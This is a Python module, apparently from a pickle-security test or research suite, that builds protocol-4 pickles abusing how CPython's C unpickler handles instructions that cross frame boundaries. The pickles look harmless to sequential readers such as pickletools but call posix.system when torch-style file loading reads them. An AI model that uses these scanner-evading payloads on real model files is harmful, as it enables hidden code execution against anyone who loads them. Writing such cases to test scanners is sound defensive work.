"""Protocol-4 frames that end inside an instruction.

CPython's C unpickler reads a frame into its buffer in one go. When an instruction's
argument runs past the end of that buffer, it drops the rest of the buffer and reads the
argument from the file position after the frame; only the byte-string opcodes (BINBYTES,
SHORT_BINBYTES, BINBYTES8, BYTEARRAY8, filled with ``readinto``) take the rest of the frame
and continue into the file. This happens when the unpickler reads from a file object without
``peek`` (torch reads ``data.pkl`` through ``io.BytesIO``), or from one with ``peek`` when the
frame is larger than what ``peek`` returns (a buffered file's 8 KiB: torch's legacy stream,
``pickle.load(open(...))``). ``pickle.loads(bytes)`` and ``pickletools`` read sequentially.

Each builder returns a pickle whose sequential reading is harmless while the C unpickler
reading from a file object runs ``posix.system``.
"""

from __future__ import annotations

from .ops import POP, PROTO4, STOP, frame, system_call


def unicode_cross(marker) -> bytes:
    """SHORT_BINUNICODE of 4 with 1 byte in the frame. Sequential: 'a'+'bcd', then STOP.
    C (no peek): reads 'bcd.' after the frame, then POP and the call."""
    return PROTO4 + frame(b"\x8c\x04a") + b"bcd." + POP + system_call(marker) + STOP


def readline_cross(marker) -> bytes:
    """GLOBAL whose line starts in the frame. Sequential: global `xxposix.system` (nothing
    importable). C: drops 'xx' and reads `posix\\nsystem\\n` after the frame."""
    return PROTO4 + frame(b"cxx") + b"posix\nsystem\n" + system_call(marker)[len(b"cposix\nsystem\n"):] + STOP


def binbytes_cross(marker) -> bytes:
    """SHORT_BINBYTES of 4 with 1 byte in the frame: the C unpickler reads it sequentially
    ('a'+'bcd'), then BININT1 46, POP, POP and the call. A reader that dropped the frame's
    tail here would read b'bcdK' and stop at the '.'."""
    return PROTO4 + frame(b"C\x04a") + b"bcdK." + POP + POP + system_call(marker) + STOP


def nested_frame(marker) -> bytes:
    """A FRAME inside a frame, longer than what is left of the outer one: the C unpickler
    drops the outer frame's tail (a STOP) and reads the new frame from the file."""
    after = POP + system_call(marker) + STOP
    inner = b"\x95" + len(after).to_bytes(8, "little")
    return PROTO4 + frame(b"\x8c\x02ok" + inner + STOP) + after


def big_frame_cross(marker, size: int = 20000) -> bytes:
    """`unicode_cross` behind a frame of `size` bytes: larger than a buffered file's peek, so
    the C unpickler drops its tail even when reading from a real file."""
    pad = b"\x8c\x00" + POP  # push '', pop it
    body = pad * (size // len(pad)) + b"\x8c\x04a"
    return PROTO4 + frame(body) + b"bcd." + POP + system_call(marker) + STOP
